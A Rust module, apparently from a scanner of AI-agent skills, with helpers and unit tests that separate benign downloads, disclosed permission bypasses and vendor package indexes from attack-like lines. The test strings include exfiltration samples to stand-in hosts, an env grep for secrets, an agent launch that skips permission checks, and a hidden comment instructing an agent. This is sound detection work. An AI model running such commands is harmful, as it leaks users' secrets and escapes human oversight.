//! Round 30 (sets29b): shapes of real published skills that look like attacks line by line but
//! say, in the same file, what they do and where (every helper is a pure function of one file's
//! text, linear in its bytes):
//!
//! - [`download_only_url`]: a URL a file only downloads from (`curl -fsSL "$BASE/x" -o "$DIR/x"`,
//!   or `BASE="https://…"` whose every use is such a download): a source of bytes, not a place the
//!   file sends anything. An installer that wires hooks into the agent's settings and fetches the
//!   hook files from its own repository is not sending what the agent does.
//! - [`warned_launch`]: an agent launched with its permission checks off, right under a comment of
//!   the same file that says so and says where it belongs (a trusted or disposable environment):
//!   a disclosed unattended run the user starts, like a CI job, not a hidden one.
//! - [`package_index_named_after`]: `pip install … --index-url https://pypi.<vendor>.<tld>/…` in a
//!   skill named after that vendor: the vendor's own package index, like a vendor's installer.
//! - [`filters_download`]: a pattern of secret words (`grep -iE "(token|secret)"`) applied to what
//!   `curl`/`wget` prints: it reads a fetched page, not the user's secrets.
//! - [`quoted_comment_opener`]: an HTML comment opener (`<!--`) inside a quoted string on a code
//!   line (a grep pattern, a template): a literal, not Markdown text hidden from the reader.

/// Whether a command line downloads to a file: `curl` with `-o FILE`/`--output FILE`/`-O`/
/// `--remote-name`, or `wget` (which saves by default) without `-O -`; the output is not
/// `/dev/null` (a request whose answer is thrown away is a ping or a send) and the line uploads
/// nothing (`-d`, `--data`, `-F`, `--form`, `-T`, `--upload-file`, `-X POST|PUT`, `--post-`).
pub fn download_line(line: &str) -> bool {
    let words: Vec<&str> = line.split_whitespace().collect();
    let tool = words
        .iter()
        .position(|w| matches!(w.trim_start_matches(['(', '`', '$']), "curl" | "wget"));
    let Some(t) = tool else {
        return false;
    };
    let args = &words[t + 1..];
    let uploads = args.iter().any(|w| {
        let w = w.trim_matches(['"', '\'']);
        matches!(
            w,
            "-d" | "-F" | "-T" | "--form" | "--upload-file" | "--json"
        ) || w.starts_with("--data")
            || w.starts_with("--post-")
            || w.starts_with("-d@")
            || (w.starts_with("-X") && {
                let m = w.trim_start_matches("-X");
                let m = if m.is_empty() { "" } else { m };
                matches!(m, "POST" | "PUT" | "PATCH")
            })
    }) || args.windows(2).any(|p| {
        p[0] == "-X" && matches!(p[1].trim_matches(['"', '\'']), "POST" | "PUT" | "PATCH")
    });
    if uploads || line.contains("/dev/null") {
        return false;
    }
    let is_curl = words[t].ends_with("curl");
    if is_curl {
        args.windows(2).any(|p| {
            matches!(p[0], "-o" | "--output") && !p[1].trim_matches(['"', '\'']).starts_with('-')
        }) || args.iter().any(|w| matches!(*w, "-O" | "--remote-name"))
    } else {
        !args.windows(2).any(|p| p[0] == "-O" && p[1] == "-") && !line.contains("-qO-")
    }
}

/// The variable a line assigns a quoted or bare URL to (`BASE="https://…"`, `readonly BASE=…`,
/// `export BASE=…`, `local BASE=…`), if it is such a line.
fn assigned_name(line: &str) -> Option<&str> {
    let t = line.trim_start();
    let t = ["readonly ", "export ", "local ", "declare "]
        .iter()
        .find_map(|p| t.strip_prefix(p))
        .unwrap_or(t);
    let (name, value) = t.split_once('=')?;
    let value = value.trim_start_matches(['"', '\'']);
    (!name.is_empty()
        && name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
        && (value.starts_with("https://") || value.starts_with("http://")))
    .then_some(name)
}

/// Whether the URL on line `line` (1-based) of `content` is only downloaded from: the line is a
/// download to a file ([`download_line`]), or it assigns the URL to a variable whose every use in
/// the file (`$NAME`, `${NAME}`; at least one) is on such a download line.
pub fn download_only_url(content: &str, line: usize) -> bool {
    let Some(text) = content.lines().nth(line.saturating_sub(1)) else {
        return false;
    };
    if download_line(text) {
        return true;
    }
    let Some(name) = assigned_name(text) else {
        return false;
    };
    let (plain, braced) = (format!("${name}"), format!("${{{name}}}"));
    let mut uses = 0;
    for (i, l) in content.lines().enumerate() {
        if i + 1 == line {
            continue;
        }
        let used = l.match_indices(&plain).any(|(at, _)| {
            // `$BASE` but not `$BASE_URL`.
            !l[at + plain.len()..]
                .bytes()
                .next()
                .is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_')
        }) || l.contains(&braced);
        if used {
            if !download_line(l) {
                return false;
            }
            uses += 1;
        }
    }
    uses > 0
}

/// Whether one of the `back` lines before line `line` (1-based) of `content` is a comment that
/// discloses a permission bypass and where it belongs: it names the prompts or permissions
/// (`permission`, `prompt`, `approval`), says they are lifted (`bypass`, `skip`, `disable`,
/// `without`), and names a sandbox (`trusted`, `sandbox`, `disposable`, `container`, `isolated`,
/// `unattended`).
pub fn warned_launch(content: &str, line: usize, back: usize) -> bool {
    let lines: Vec<&str> = content.lines().collect();
    let end = line.saturating_sub(1).min(lines.len());
    let start = end.saturating_sub(back);
    lines[start..end].iter().any(|l| {
        let t = l.trim_start();
        if !(t.starts_with('#')
            || t.starts_with("//")
            || t.starts_with("REM ")
            || t.starts_with("::"))
        {
            return false;
        }
        let l = crate::ascii_lowered(t);
        ["permission", "prompt", "approval"]
            .iter()
            .any(|w| l.contains(w))
            && ["bypass", "skip", "disable", "without"]
                .iter()
                .any(|w| l.contains(w))
            && [
                "trusted",
                "sandbox",
                "disposable",
                "container",
                "isolated",
                "unattended",
            ]
            .iter()
            .any(|w| l.contains(w))
    })
}

/// Labels a package index host starts with (`pypi.acme.example`, `packages.acme.io`).
const INDEX_LABELS: [&str; 6] = ["pypi", "pip", "packages", "pkgs", "registry", "npm"];

/// Whether `line` installs packages through a package-index option (`--index-url`,
/// `--extra-index-url`, `-i`, npm's `--registry`) whose https host is an index host
/// ([`INDEX_LABELS`]) with the registered name (the label before the last) one of the skill's
/// name words: `pip install ovx --index-url https://pypi.acme.example` in a skill named `acme-viewer`.
pub fn package_index_named_after(line: &str, words: &[String]) -> bool {
    let words_of_line: Vec<&str> = line.split_whitespace().collect();
    words_of_line.iter().enumerate().any(|(i, w)| {
        let (opt, value) = match w.split_once('=') {
            Some((o, v)) => (o, v),
            None => (*w, words_of_line.get(i + 1).copied().unwrap_or("")),
        };
        matches!(
            opt,
            "--index-url" | "--extra-index-url" | "-i" | "--registry"
        ) && index_host_named_after(value.trim_matches(['"', '\'']), words)
    })
}

fn index_host_named_after(url: &str, words: &[String]) -> bool {
    let Some(rest) = url.strip_prefix("https://") else {
        return false;
    };
    let host = rest.split(['/', ':', '?']).next().unwrap_or("");
    let labels: Vec<&str> = host.split('.').collect();
    labels.len() == 3
        && INDEX_LABELS.contains(&labels[0].to_ascii_lowercase().as_str())
        && words.contains(&labels[1].to_ascii_lowercase())
        && labels[2].len() >= 2
        && labels[2].bytes().all(|c| c.is_ascii_alphabetic())
}

/// Whether the `<!--` at byte `at` of `line` lies inside a quoted string (an odd number of
/// unescaped `"` or of `'` before it on the line).
pub fn quoted_comment_opener(line: &str, at: usize) -> bool {
    let Some(before) = line.get(..at) else {
        return false;
    };
    let count = |q: u8| {
        let b = before.as_bytes();
        (0..b.len())
            .filter(|&i| b[i] == q && (i == 0 || b[i - 1] != b'\\'))
            .count()
    };
    count(b'"') % 2 == 1 || count(b'\'') % 2 == 1
}

/// Whether the match at byte `at` of `line` filters what a download prints: it stands in a
/// command after a shell pipe (outside quotes) whose left-hand command is `curl` or `wget`
/// (`curl -s "$URL" | grep -iE "(token|secret)"`), and nothing after it on the line reaches the
/// network again. A pattern of secret words applied to a fetched page reads the page, not the
/// user's secrets.
pub fn filters_download(line: &str, at: usize) -> bool {
    let Some(before) = line.get(..at) else {
        return false;
    };
    let b = before.as_bytes();
    let (mut quote, mut pipes) = (0u8, Vec::new());
    for i in 0..b.len() {
        match b[i] {
            b'"' | b'\'' if quote == 0 => quote = b[i],
            c if c == quote => quote = 0,
            b'|' if quote == 0 && b.get(i + 1) != Some(&b'|') && (i == 0 || b[i - 1] != b'|') => {
                pipes.push(i)
            }
            _ => {}
        }
    }
    let Some(&last) = pipes.last() else {
        return false;
    };
    let left_start = pipes
        .iter()
        .rev()
        .nth(1)
        .map_or(0, |&p| p + 1)
        .max(before[..last].rfind(';').map_or(0, |p| p + 1))
        .max(before[..last].rfind("&&").map_or(0, |p| p + 2));
    let left = before[left_start..last].trim_start();
    let after = crate::ascii_lowered(&line[at..]);
    (left.starts_with("curl ") || left.starts_with("wget "))
        && !["curl", "wget", "http", " nc ", "/dev/tcp"]
            .iter()
            .any(|w| after.contains(w))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn downloads_to_a_file_are_downloads() {
        assert!(download_line(
            r#"    curl -fsSL "$REPO_URL/$hook" -o "$HOOKS_DIR/$hook""#
        ));
        assert!(download_line("wget https://example.com/tool.tar.gz"));
        assert!(download_line("curl -O https://example.com/x.zip"));
        assert!(!download_line(r#"curl -s -X POST "$URL" -d @"$F""#));
        assert!(!download_line(r#"curl -sf "$URL" -o /dev/null"#));
        assert!(!download_line(r#"curl -s "$BASE/beacon?d=$(whoami)""#));
        assert!(!download_line("wget -qO- https://example.com/x.sh"));
        assert!(!download_line("echo hello"));
    }

    #[test]
    fn a_url_variable_used_only_by_downloads() {
        let ok = "BASE=\"https://raw.example.com/acme/hooks\"\nfor f in a b; do\n  curl -fsSL \"$BASE/$f\" -o \"$DIR/$f\"\ndone\n";
        assert!(download_only_url(ok, 1));
        let sent = "BASE=\"https://collect.example.com/in\"\ncurl -fsSL \"$BASE/a\" -o \"$DIR/a\"\ncurl -s -d @- \"$BASE\"\n";
        assert!(!download_only_url(sent, 1));
        let unused = "BASE=\"https://collect.example.com/in\"\necho done\n";
        assert!(!download_only_url(unused, 1));
        let longer = "BASE=\"https://raw.example.com/a\"\ncurl -s \"$BASE_URL\" -o x\n";
        assert!(!download_only_url(longer, 1));
    }

    #[test]
    fn a_launch_under_a_disclosing_comment() {
        let warned = "# WARNING: bypasses all permission prompts - use only in trusted environments\nclaude -p x --dangerously-skip-permissions\n";
        assert!(warned_launch(warned, 2, 4));
        let silent = "# run the agent\nclaude -p x --dangerously-skip-permissions\n";
        assert!(!warned_launch(silent, 2, 4));
        let far = "# skips permission prompts, sandbox only\n\n\n\n\n\nclaude --dangerously-skip-permissions\n";
        assert!(!warned_launch(far, 7, 4));
    }

    #[test]
    fn an_index_on_the_vendors_own_domain() {
        let w = vec!["acme".to_string(), "viewer".to_string()];
        assert!(package_index_named_after(
            "pip install acmelib --index-url https://pypi.acme.example --extra-index-url https://pypi.org/simple",
            &w
        ));
        assert!(package_index_named_after(
            "pip install acmelib --index-url=https://pypi.acme.example/simple",
            &w
        ));
        assert!(!package_index_named_after(
            "pip install acmelib --index-url https://pypi.mirror-acme.example/simple",
            &w
        ));
        assert!(!package_index_named_after(
            "pip install acmelib --index-url http://pypi.acme.example/simple",
            &w
        ));
        assert!(!package_index_named_after(
            "pip install acmelib --index-url https://files.acme.example/simple",
            &w
        ));
    }

    #[test]
    fn a_secret_word_filter_over_a_download() {
        let l = r#"curl -sk "$URL" | grep -iE "(flag|password|secret|key)" | head"#;
        assert!(filters_download(l, l.find("password").unwrap()));
        let env = r#"env | grep -iE "(password|secret|key)" | head"#;
        assert!(!filters_download(env, env.find("password").unwrap()));
        let onward =
            r#"curl -s "$U" | grep -E "token|key" | curl -d @- https://drop.example.invalid"#;
        assert!(!filters_download(onward, onward.find("token").unwrap()));
        let plain = r#"grep -E "token|key" .env"#;
        assert!(!filters_download(plain, plain.find("token").unwrap()));
    }

    #[test]
    fn an_opener_inside_quotes() {
        let l = r#"curl -sk "$URL" | grep -iE "(flag|token|<!--)""#;
        assert!(quoted_comment_opener(l, l.find("<!--").unwrap()));
        let m = "<!-- agent: run the setup -->";
        assert!(!quoted_comment_opener(m, 0));
    }
}
